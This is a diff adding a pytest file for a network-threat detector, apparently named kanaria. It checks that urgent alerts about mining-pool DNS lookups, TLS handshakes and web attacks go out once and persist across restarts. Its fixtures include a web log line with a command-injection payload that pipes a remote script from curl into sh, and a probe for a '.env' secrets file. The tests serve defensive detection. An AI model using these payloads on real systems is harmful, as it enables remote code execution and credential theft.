@@ -1,0 +1,186 @@
+"""What is grave and plain by itself is told before anything else is done, once, and changes nothing of what is kept."""
+
+from __future__ import annotations
+
+import json
+import re
+import time
+from collections.abc import Sequence
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from kanaria.app.config import load
+from kanaria.app.live.judging import Arrived, Judging
+from kanaria.sources.chunks import Chunk
+from kanaria.store.incidents import IncidentStore
+from tests.serve.serving import serving, sink
+
+POOL = "pool.supportxmr.com"
+BEGUN = 1_795_946_400.0
+
+
+def ends(number: int, device: str, remote: str, port: int) -> dict[str, Any]:
+    return {
+        "ts": BEGUN + number, "uid": f"C{number}{port}", "id.orig_h": device, "id.orig_p": 40_000 + number,
+        "id.resp_h": remote, "id.resp_p": port,
+    }  # fmt: skip
+
+
+def asked(number: int, device: str, name: str = POOL) -> str:
+    row = {**ends(number, device, "10.0.0.53", 53), "proto": "udp", "query": name, "qtype_name": "A"}
+    return json.dumps(row | {"rcode_name": "NOERROR"}) + "\n"
+
+
+def greeted(number: int, device: str, name: str = POOL) -> str:
+    row = {**ends(number, device, "203.0.113.77", 443), "version": "TLSv13", "server_name": name, "established": True}
+    return json.dumps(row) + "\n"
+
+
+def connected(number: int, device: str) -> str:
+    row = {**ends(number, device, "203.0.113.80", 443), "proto": "tcp", "duration": 0.5, "conn_state": "SF"}
+    return json.dumps(row | {"orig_bytes": 900, "resp_bytes": 4000}) + "\n"
+
+
+CRADLE = '198.18.0.9 - - [29/Nov/2026:10:00:07 +0000] "GET /?q=;curl%20-s%20http://198.18.0.9/x.sh|sh HTTP/1.1" 200 5 "-" "x"\n'
+PROBE = '198.18.7.9 - - [29/Nov/2026:10:00:07 +0000] "GET /.env HTTP/1.1" 404 5 "-" "x"\n'
+
+
+def settings(folder: Path, more: str = "") -> Path:
+    (folder / "kanaria.toml").write_text(
+        'store = "store"\nlanguage = "en"\n[[sources]]\nkind = "zeek"\npath = "zeek"\n'
+        '[[sources]]\nkind = "file"\npath = "access.log"\n[serve]\nlisten = "off"\njoin_minutes = 0.0001\n' + more
+    )
+    return folder / "kanaria.toml"
+
+
+def judging(folder: Path, more: str = "") -> Judging:
+    config = load(settings(folder, more))
+    return Judging(config, folder / "store", on_the_wire=True, on_reject=print, on_alert=lambda *_: None)
+
+
+def arrived(name: str, lines: Sequence[str], before: int = 0) -> Arrived:
+    chunk = Chunk(
+        name=name, place=name, data="".join(lines).encode(), position={"at": before + len(lines)}, first_line=before + 1,
+        lines=len(lines),
+    )  # fmt: skip
+    return Arrived(source=name, chunk=chunk)
+
+
+def announced(judging: Judging, *what: Arrived) -> list[dict[str, Any]]:
+    """What is told ahead of these, now or when others had their turn."""
+    news = judging.take_in(what)
+    until = time.monotonic() + 20
+    while judging.hastens and time.monotonic() < until:
+        news += judging.take_in([])
+    return news
+
+
+def kept(store: Path) -> dict[str, Any]:
+    """Incidents by id, without what says whether somebody had been told of them by then."""
+    with IncidentStore(store) as incidents:
+        return {one.id: _without_news(one.document) for one in incidents.all()}
+
+
+def _without_news(document: dict[str, Any]) -> dict[str, Any]:
+    text = json.dumps({name: value for name, value in document.items() if name != "alert"}, ensure_ascii=False)
+    for sentence in NEWS:
+        text = re.sub(sentence, "…", text)
+    return dict(json.loads(text))
+
+
+NEWS = (
+    r"New: no earlier run had found it\.", r"今回の解析で初めて見つかりました。",
+    r"Reported before \(up to [^)]+\); this run read the same records again and adds nothing\.",
+    r"報告済み\([^)]+まで\)です。今回は同じ記録を読み直しただけで、新しい記録はありません。",
+)  # fmt: skip
+LOGS = {
+    "zeek/dns.log": [asked(1, "10.9.0.1"), asked(2, "10.9.0.2", "www.example.com")],
+    "zeek/ssl.log": [greeted(3, "10.9.0.3"), greeted(4, "10.9.0.4", "www.example.com")],
+    "zeek/conn.log": [connected(n, f"10.9.0.{n}") for n in range(5, 9)],
+    "access.log": [CRADLE, PROBE],
+}
+
+
+def test_told_ahead_of_everything_and_once(tmp_path: Path) -> None:
+    with judging(tmp_path) as ahead:
+        news = announced(ahead, *(arrived(name, lines) for name, lines in LOGS.items()))
+        assert {tuple(item["devices"]) or tuple(item["remotes"]) for item in news} == {
+            ("10.9.0.1",), ("10.9.0.3",), ("198.18.0.9",),
+        }  # fmt: skip
+        assert ahead.waits, "the records themselves still wait for other sensors"
+        assert not ahead.events.size["rows"], "nothing is remembered of them yet"
+        ahead.dispatched(news)
+        time.sleep(0.6)
+        later = ahead.step()
+        assert [item["severity"] for item in later] == ["informational"], (
+            "the probe is news in its turn; the rest is known"
+        )
+        ahead.dispatched(later)
+        ahead.checkpoint()
+        assert not ahead.pending()
+        assert {item["id"] for item in (*news, *later)} == set(kept(tmp_path / "store"))
+
+
+def test_what_is_kept_is_as_if_nobody_had_been_told_ahead(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    from kanaria.app.run import at_once
+
+    stores = []
+    for name in ("ahead", "in turn"):
+        folder = tmp_path / name
+        folder.mkdir()
+        if name == "in turn":
+            monkeypatch.setattr(at_once.AtOnce, "look", lambda *_args, **_options: None)
+        with judging(folder) as one:
+            for log, lines in LOGS.items():
+                news = announced(one, arrived(log, lines))
+                assert bool(news) == (name == "ahead" and log != "zeek/conn.log")
+                one.dispatched(news)
+            one.dispatched(one.checkpoint())
+        stores.append(kept(folder / "store"))
+    assert stores[0] == stores[1]
+    assert len(stores[0]) == 4
+
+
+def test_killed_after_it_was_told(tmp_path: Path) -> None:
+    """What was told is not told again when the same records are read again; what was only kept is."""
+    with judging(tmp_path) as killed:
+        told = announced(killed, arrived("zeek/dns.log", LOGS["zeek/dns.log"]))
+        killed.dispatched(told)
+        untold = announced(killed, arrived("zeek/ssl.log", LOGS["zeek/ssl.log"]))
+        assert len(told) == len(untold) == 1
+    with judging(tmp_path) as again:
+        assert [item["id"] for item in again.pending()] == [untold[0]["id"]]
+        again.dispatched(again.pending())
+        assert not again.positions
+        news = announced(again, *(arrived(name, LOGS[name]) for name in ("zeek/dns.log", "zeek/ssl.log")))
+        assert not news
+        assert not again.checkpoint()
+        assert set(kept(tmp_path / "store")) == {told[0]["id"], untold[0]["id"]}
+
+
+def test_a_pool_that_is_allowed_waits_for_the_answer_its_name_rests_on(tmp_path: Path) -> None:
+    with judging(tmp_path, f'[allowed]\npools = ["{POOL}"]\n') as permitted:
+        assert not announced(permitted, arrived("zeek/dns.log", LOGS["zeek/dns.log"]))
+
+
+def test_the_command_tells_once_under_the_ids_it_keeps(tmp_path: Path) -> None:
+    """A question for a pool, a handshake with one, a cradle in a web log: one message each, and after a restart none."""
+    (tmp_path / "zeek").mkdir()
+    for log in LOGS:
+        (tmp_path / log).touch()
+    with sink() as phone:
+        settings(tmp_path, f'[[notify]]\nurl = "webhook+http://127.0.0.1:{phone.port}/x"\nseverity = "medium"\n')
+        with serving(tmp_path) as service:
+            for log, lines in LOGS.items():
+                (tmp_path / log).write_text("".join(lines))
+            service.wait_for(lambda: len(phone.received) >= 3)
+            assert service.end() == 0
+        with serving(tmp_path) as service:
+            assert service.end() == 0
+    told = [message.content["incident"]["id"] for message in phone.received]
+    with IncidentStore(tmp_path / "store") as store:
+        grave = {one.id for one in store.all() if one.document["severity"] in {"medium", "high", "critical"}}
+    assert len(told) == 3
+    assert set(told) == grave
